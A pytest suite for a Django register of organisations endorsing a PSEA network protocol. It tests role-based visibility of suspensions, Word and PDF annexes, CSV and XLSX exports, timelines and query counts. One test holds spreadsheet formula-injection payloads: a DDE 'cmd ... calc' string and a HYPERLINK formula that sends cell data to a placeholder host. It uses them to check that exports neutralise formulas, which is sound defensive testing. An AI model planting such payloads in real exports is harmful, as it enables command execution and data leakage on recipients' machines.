"""What each capacity reads of the register, on the page, on paper, in exports, through time."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import date, datetime, timedelta
from typing import Any

import pytest
from django.urls import reverse
from docx import Document
from docx.text.paragraph import Paragraph
from openpyxl import load_workbook

from audit.models import Event
from intranet.access.roles import Capacity
from intranet.papers import pdf, sheets
from protocol_pages.editions.models import Edition
from signatories import services
from signatories.models import Organization, ParticipationEntry
from signatories.register import views
from tests.personas import outsider_client, persona_client
from tests.signatories.doors import coordinator_client, member_client, office_client, text_of
from tests.signatories.network import NOW, TODAY, Network, endorse, received

pytestmark = [pytest.mark.django_db, pytest.mark.usefixtures("clock")]
FOCAL = Capacity.PRIMARY_FOCAL_POINT


def words(document: bytes) -> str:
    opened = Document(io.BytesIO(document))
    return "\n".join(Paragraph(p, None).text for p in opened.element.body.iter("{*}p"))


def parts_of(data: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {name: archive.read(name) for name in archive.namelist()}


@pytest.fixture
def stopped(clock: Any, signed: Network, edition: Edition) -> Network:
    """Alpha suspends from today on; Beta has signed too."""
    endorse(signed, "beta", edition)
    services.suspend(signed.members["alpha"], signed.head("alpha"), NOW, reason="safety", effective_on=TODAY)
    return signed


@pytest.mark.rule("§4.f")
@pytest.mark.usefixtures("with_pdf")
def test_that_another_suspends_is_read_by_those_who_are_told_alone(stopped: Network) -> None:
    page = reverse("endorsements")
    day = {"on": TODAY.isoformat()}
    readers = {
        "own": member_client(stopped, "alpha.first", FOCAL),
        "coordinator": coordinator_client(stopped),
        "office": office_client(stopped),
        "auditor": persona_client(Capacity.AUDITOR),
    }
    for client in readers.values():
        assert "Sharing suspended" in text_of(client.get(page, day))
    for client in (member_client(stopped, "beta.first", FOCAL), persona_client(Capacity.MEMBER)):
        for on in ({}, day, {"on": (TODAY + timedelta(days=30)).isoformat()}):
            assert "uspended" not in text_of(client.get(page, on))
        for name in ("annex-word", "annex-pdf"):
            paper = client.get(reverse(name), day)
            assert paper.status_code == 200
        assert "uspen" not in words(client.get(reverse("annex-word"), day).content)
        for name in ("register-csv", "register-xlsx"):
            assert client.get(reverse(name), day).status_code == 403
    # The annex says the same to everybody.
    mine = readers["office"].get(reverse("annex-word"), day).content
    assert mine == client.get(reverse("annex-word"), day).content


@pytest.mark.rule("D9")
def test_posts_of_a_day_are_for_the_own_organization_and_those_who_oversee(stopped: Network) -> None:
    page = reverse("endorsements")
    own = text_of(member_client(stopped, "alpha.first", FOCAL).get(page))
    assert "Alpha Second" in own
    assert "Beta Second" not in own
    assert "Beta Second" in text_of(coordinator_client(stopped).get(page))


def test_the_page_counts_by_state_and_edition_and_offers_days(stopped: Network) -> None:
    response = office_client(stopped).get(reverse("endorsements"))
    page = text_of(response)
    assert "2 of 2 organizations are signatories" in page
    assert "Signatory 1" in page
    assert "Sharing suspended 1" in page
    assert "Edition 1 : 2" in page or "Edition 1: 2" in page
    html = response.content.decode()
    assert 'type="date"' in html  # the browser's own picker: no script
    assert f'value="{TODAY.isoformat()}"' in html
    assert "?on=2025-12-31" in html
    earlier = text_of(office_client(stopped).get(reverse("endorsements"), {"on": "10/1/2026"}))
    assert "0 of 2 organizations are signatories" in earlier


@pytest.mark.parametrize("language", ["en", "ar"])
def test_the_annex_lists_signatories_of_the_day(signed: Network, language: str) -> None:
    alpha = signed.members["alpha"]
    client = member_client(signed, "beta.first", FOCAL)
    address = reverse("annex-word").replace("/en/", f"/{language}/")
    response = client.get(address, {"on": TODAY.isoformat()})
    assert response["Content-Disposition"] == f'attachment; filename="signatories-{TODAY}.docx"'
    text = words(response.content)
    assert alpha.name_en in text
    assert "Country Director" in text
    assert "Alpha Head" not in text  # titles, no persons
    assert signed.members["beta"].name_en not in text
    before = words(client.get(address, {"on": "2026-01-10"}).content)
    assert alpha.name_en not in before
    events = Event.objects.filter(action="register.annex").order_by("sequence")
    assert [event.data for event in events] == [
        {"on": TODAY.isoformat(), "format": "word"},
        {"on": "2026-01-10", "format": "word"},
    ]


@pytest.mark.usefixtures("with_pdf")
def test_a_day_that_cannot_be_read_or_a_pdf_that_cannot_be_made_is_said_on_the_page(
    signed: Network, monkeypatch: pytest.MonkeyPatch
) -> None:
    client = coordinator_client(signed)
    for name in ("annex-word", "annex-pdf", "register-csv", "register-xlsx"):
        shown = client.get(reverse(name), {"on": "nonsense"}, follow=True)
        assert "write the day as day/month/year" in text_of(shown)

    def missing() -> Any:
        raise pdf.PdfUnavailable("The PDF needs the text engine Pango: sudo apt-get install libpango-1.0-0")

    monkeypatch.setattr(pdf, "_engine", missing)
    shown = client.get(reverse("annex-pdf"), follow=True)
    assert "sudo apt-get install libpango-1.0-0" in text_of(shown)
    assert client.get(reverse("annex-word")).status_code == 200


LIVE = ("=", "+", "-", "@", "\t", "\r", "\n", "＝")
PAYLOADS = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1)', "SUM(A1:A9)")


@pytest.mark.rule("T12")
@pytest.mark.parametrize("prefix", [*LIVE, " =", "\x00="])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_cell_of_an_export_is_ever_a_formula(prefix: str, payload: str) -> None:
    from intranet.files.tables import csv_bytes

    evil = prefix + payload
    for cells in list(csv.reader(io.StringIO(csv_bytes([[evil, 1]]).decode("utf-8-sig"), newline=""))):
        assert cells[0][0] == "'"
    sheet = sheets.Sheet(evil, "Network", TODAY, "en-GB", (evil, "b"), ((evil, 7), (TODAY, None)))
    data = sheets.workbook(sheet)
    assert b"<f>" not in parts_of(data)["xl/worksheets/sheet1.xml"]
    page = load_workbook(io.BytesIO(data)).active
    for cell in (page["A1"], page["A2"]):
        assert cell.data_type == "s"
        assert cell.value[0] == "'"


def test_the_exports_are_typed_and_name_neither_tool_nor_person(stopped: Network) -> None:
    client = coordinator_client(stopped)
    day = {"on": TODAY.isoformat()}
    response = client.get(reverse("register-xlsx"), day)
    assert response.content == client.get(reverse("register-xlsx"), day).content
    book = load_workbook(io.BytesIO(response.content))
    page = book.active
    rows = list(page.iter_rows(values_only=True))
    assert rows[0][:4] == ("Organization", "Name in English", "Kind", "State")
    alpha = rows[1]
    assert alpha[0] == "Alpha (example)"
    assert alpha[3] == "Sharing suspended"
    assert alpha[5] == "1"
    assert alpha[7] == datetime(2026, 1, 11)  # noqa: DTZ001, a typed day
    assert "Head of Agency: Alpha Head" in alpha[11]
    assert page.freeze_panes == "A2"
    stored = book.properties
    assert stored.creator == stored.lastModifiedBy == "Iraq PSEA Network, Office of the PSEA Coordinator"
    parts = parts_of(response.content)
    assert sorted(parts) == [
        *("[Content_Types].xml", "_rels/.rels", "docProps/core.xml", "xl/_rels/workbook.xml.rels"),
        *("xl/styles.xml", "xl/workbook.xml", "xl/worksheets/sheet1.xml"),
    ]
    assert not any(b"openpyxl" in part or b"Microsoft" in part for part in parts.values())
    lines = list(
        csv.reader(io.StringIO(client.get(reverse("register-csv"), day).content.decode("utf-8-sig")))
    )
    assert [line[0] for line in lines] == ["Organization", "Alpha (example)", "Beta (example)"]
    assert lines[1][7] == "2026-01-11"
    arabic = client.get(reverse("register-xlsx").replace("/en/", "/ar/"), day).content
    assert load_workbook(io.BytesIO(arabic)).active.sheet_view.rightToLeft
    assert Event.objects.filter(action="register.export").count() == 4


@pytest.mark.rule("D17")
def test_the_timeline_shows_every_entry_with_its_mark(signed: Network, edition: Edition) -> None:
    beta = signed.members["beta"]

    def recorded(day: int) -> ParticipationEntry:
        paper = received(how="paper", effective_on=date(2025, 5, day))
        return services.record_endorsement_received_outside(beta, edition, paper, signed.coordinator, NOW)

    services.deny_received(recorded(1), signed.office_actor, NOW, note="Not signed by Beta.")
    second = recorded(2)
    client = member_client(signed, "beta.first", FOCAL)
    address = reverse("organization-timeline", args=[beta.pk])
    page = text_of(client.get(address))
    assert page.count("denied") == 2  # the record and its denial
    assert page.count("waits for a confirmation") == 1
    assert page.count("received outside") == 3
    assert "Primary focal point begins: Beta First" in page
    services.confirm_received(second, signed.office_actor, NOW)
    page = text_of(client.get(address))
    assert "waits for a confirmation" not in page
    assert "confirmed by another entry" in page
    assert "recorded by Cora Coordinator, confirmed by Olive Office" in page
    assert address in client.get(reverse("organization", args=[beta.pk])).content.decode()


@pytest.mark.rule("D10")
def test_nobody_else_has_anothers_timeline(signed: Network) -> None:
    alpha = signed.members["alpha"]
    address = reverse("organization-timeline", args=[alpha.pk])
    for client in (outsider_client(), member_client(signed, "beta.head", Capacity.HEAD_OF_AGENCY)):
        assert client.get(address).status_code == 404
    for client in (office_client(signed), coordinator_client(signed), persona_client(Capacity.AUDITOR)):
        assert client.get(address).status_code == 200


def test_the_page_takes_few_queries_however_many_there_are(
    network: Network, edition: Edition, django_assert_max_num_queries: Any
) -> None:
    for number in range(5):
        network.member(f"org{number}")
        endorse(network, f"org{number}", edition)
    client = coordinator_client(network)
    # A download writes its event too: lock, newest event, the row, and a savepoint around them.
    for name, most in (("endorsements", 12), ("annex-word", 16), ("register-csv", 16), ("register-xlsx", 16)):
        client.get(reverse(name))
        with django_assert_max_num_queries(most):
            client.get(reverse(name))
    address = reverse("organization-timeline", args=[Organization.objects.get(name_en__startswith="Org3").pk])
    client.get(address)
    with django_assert_max_num_queries(12):
        client.get(address)


def test_the_days_on_offer() -> None:
    assert views._quick_days(date(2026, 1, 11)) == [date(2025, 12, 31), date(2024, 12, 31)]
    assert views._quick_days(date(2026, 3, 11))[0] == date(2026, 2, 28)
